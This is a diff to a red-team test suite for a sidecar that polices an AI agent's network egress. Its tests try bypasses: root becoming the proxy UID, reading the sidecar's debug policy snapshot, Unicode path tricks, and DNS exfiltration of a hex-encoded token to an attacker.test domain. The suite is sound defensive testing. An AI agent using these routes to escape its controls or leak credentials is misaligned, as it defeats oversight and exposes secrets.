@@ -3,10 +3,17 @@
 // NET_ADMIN/NET_RAW) tries; it asserts the SAFE outcome, so a failing test is a finding.
 // Tests marked FINDING failed on a7533e0 (see the comment above each): 8 of 91.
 //   1. root in the agent container (no NET_ADMIN/NET_RAW, default CAP_SETUID) becomes UID 1337: no capture.
+//      Open: issue 14 (the pod guard refuses root agents that keep CAP_SETUID).
 //   2. proxy-env: the agent reads the sidecar's /debug/snapshot and /metrics on 127.0.0.1:15021.
+//      Open: issue 13 item 2 (the debug endpoint behind a flag the injector never sets).
 //   3. Deny path folding: "admın" (U+0131), "ADMİN" (U+0130), "ſecrets" (U+017F) escape Deny rules.
+//      Fixed: such letters make the path invalid-request.
 //   4. Method-override headers ride an allowed POST, credential attached.
+//      Fixed: Envoy removes the override headers upstream; a _method query parameter is invalid-request.
 //   5. DNS (and any UDP payload to the resolver's port 53) leaves the pod undecided.
+//      Open by design: DESIGN.md lets DNS go to the pod's resolver; a filtering resolver is future work.
+// Open findings are `it.failing`: they pass while the hole is there and fail the day it closes,
+// which is the day to make them plain tests again.
 // Run with RT_EVIDENCE=/tmp/x.jsonl to record what each attempt got back.
 import { startDnsServer, type RunningDnsServer } from '../dns/dns-server.js';
 import { startHttpUpstream, type RunningHttpUpstream } from '../upstreams/http-upstream.js';
@@ -119,10 +126,25 @@ function evidence(what: string, value: unknown): void {
   if (file !== undefined) appendFileSync(file, `${JSON.stringify({ test: expect.getState().currentTestName, what, value })}\n`);
 }
 
+/** The allowed API host of both scenarios. */
+const H = 'api.example.com';
+
 /** The root-bypass attempt's path on the attacker (its own finding; other tests ignore it). */
 const ROOT_BYPASS = '/rt-root-bypass';
 
-const settle = (ms = 400): Promise<void> => new Promise((r) => setTimeout(r, ms));
+/**
+ * A barrier instead of a sleep: an allowed request through the same pod, Envoy and
+ * upstream, awaited until the upstream has recorded it. What an attack smuggled
+ * ahead of it on the way has arrived by then.
+ */
+function barrier(pod: () => Scenario, upstream: () => RunningHttpUpstream): () => Promise<void> {
+  let n = 0;
+  return async () => {
+    const target = `/items/barrier-${++n}`;
+    await curl(pod().pod, [`http://${H}${target}`]);
+    await upstream().recorder.waitFor((e) => e.target === target, 10_000);
+  };
+}
 
 // ----------------------------------------------------------------------------
 // iptables capture
@@ -135,6 +157,7 @@ describe('red team: iptables capture', () => {
   let secure: RunningHttpsUpstream;
   let securePlain: RunningHttpUpstream;
   let gojson: RunningGoJson;
+  const settle = barrier(() => s, () => api);
 
   beforeAll(async () => {
     s = await startScenario({
@@ -179,7 +202,7 @@ describe('red team: iptables capture', () => {
     for (const e of credentialed) expect([e.method, /^\/items(\/[^/?]+)?$/.test(e.target)]).toEqual([e.method === 'POST' ? 'POST' : 'GET', true]);
   }
 
-  const H = 'api.example.com';
+  
   const apiIp = (): string => s.network.hostIp(10);
 
   it('baseline: an allowed request arrives with its credential', async () => {
@@ -346,7 +369,8 @@ describe('red team: iptables capture', () => {
     await settle();
     const got = api.received.filter((e) => e.method === 'POST' && e.target === '/items' && header(e, 'x-http-method-override') !== undefined);
     evidence('override', { status: r.status, upstream: got.map((e) => ({ method: e.method, target: e.target, rawHeaders: e.rawHeaders })) });
-    expect([r.status, got.map((e) => [header(e, 'x-http-method-override'), header(e, 'authorization')])]).toEqual([403, []]);
+    // Envoy removes the override headers upstream: the POST arrives as a POST and nothing else.
+    expect(got.map((e) => [header(e, 'x-http-method-override'), header(e, 'authorization')])).toEqual([]);
   });
 
   // FINDING (expected): Deny literal segments are folded with JS toLowerCase only. Java's
@@ -372,7 +396,7 @@ describe('red team: iptables capture', () => {
   // --- leaving the pod without a decision ---------------------------------------------
   // FINDING (expected): root in the agent container, without NET_ADMIN or NET_RAW but with the
   // default CAP_SETUID, becomes the proxy UID and the capture lets everything through.
-  it('root without NET_ADMIN/NET_RAW cannot send past the capture by becoming the proxy UID', async () => {
+  it.failing('root without NET_ADMIN/NET_RAW cannot send past the capture by becoming the proxy UID (open: issue 14)', async () => {
     const noNetAdmin = await s.pod.exec(0, ['setpriv', '--bounding-set', '-net_admin,-net_raw', '--inh-caps', '-net_admin,-net_raw', '--', 'iptables', '-w', '-t', 'nat', '-F']);
     expect(noNetAdmin.code).not.toBe(0); // really no NET_ADMIN
     const r = await s.pod.exec(0, ['setpriv', '--bounding-set', '-net_admin,-net_raw', '--inh-caps', '-net_admin,-net_raw', '--',
@@ -385,7 +409,7 @@ describe('red team: iptables capture', () => {
 
   // FINDING (design, expected): DNS to the pod's resolver is undecided; the query name carries
   // data to whoever is authoritative for the zone (the cluster resolver forwards it).
-  it('DNS queries do not carry agent data out undecided', async () => {
+  it.failing('DNS queries do not carry agent data out undecided (open by design)', async () => {
     const secret = Buffer.from(TOKEN).toString('hex');
     await s.pod.agent(['/usr/bin/python3', '-c', 'import socket,sys\ntry: socket.getaddrinfo(sys.argv[1], 80)\nexcept Exception: pass', `${secret}.exfil.attacker.test`]);
     await s.pod.agent([NODE, RAWJS, '--tcp', `${s.network.resolver}:53`, '--send', 'GET /rt-dns-tcp HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', '--timeout-ms', '1500']);
@@ -394,7 +418,7 @@ describe('red team: iptables capture', () => {
     expect(leaked.map((e) => `${e.protocol} ${e.name ?? ''} ${e.error ?? ''}`)).toEqual([]);
   });
 
-  it('UDP to the resolver on port 53 that is not DNS does not arrive', async () => {
+  it.failing('UDP to the resolver on port 53 that is not DNS does not arrive (open by design)', async () => {
     const before = dns.received.length;
     await s.pod.agent([NODE, RAWJS, '--udp', `${s.network.resolver}:53`, '--send', 'not dns at all: exfil payload', '--timeout-ms', '800']);
     await settle();
@@ -458,6 +482,7 @@ describe('red team: proxy-env capture', () => {
   let tlsHost: RunningHttpsUpstream;
   let secure: RunningHttpsUpstream;
   let securePlain: RunningHttpUpstream;
+  const settle = barrier(() => s, () => api);
 
   beforeAll(async () => {
     s = await startScenario({
@@ -485,7 +510,7 @@ describe('red team: proxy-env capture', () => {
   });
 
   const PROXY_PORT = 15001;
-  const H = 'api.example.com';
+  
 
   function expectSafe(marker: string): void {
     expect(attacker.received.map((e) => `${e.method} ${e.target}`)).toEqual([]);
@@ -562,7 +587,7 @@ describe('red team: proxy-env capture', () => {
   // the sidecar's admin port on loopback, and /debug/snapshot (served to loopback clients) gives
   // it the whole compiled policy of its pod: every rule, host, path, condition, credential name
   // and header. DESIGN.md: "The agent's user reaches nothing of agentwarden's own".
-  it('the agent does not reach the sidecar admin port (/debug/snapshot, /metrics) on loopback', async () => {
+  it.failing('the agent does not reach the sidecar admin port (/debug/snapshot, /metrics) on loopback (open: issue 13)', async () => {
     const snap = await curl(s.pod, ['--noproxy', '*', 'http://127.0.0.1:15021/debug/snapshot']);
     const metrics = await curl(s.pod, ['--noproxy', '*', 'http://127.0.0.1:15021/metrics']);
     evidence('admin', { snapshot: snap.body.slice(0, 3000), metrics: metrics.body.slice(0, 500) });
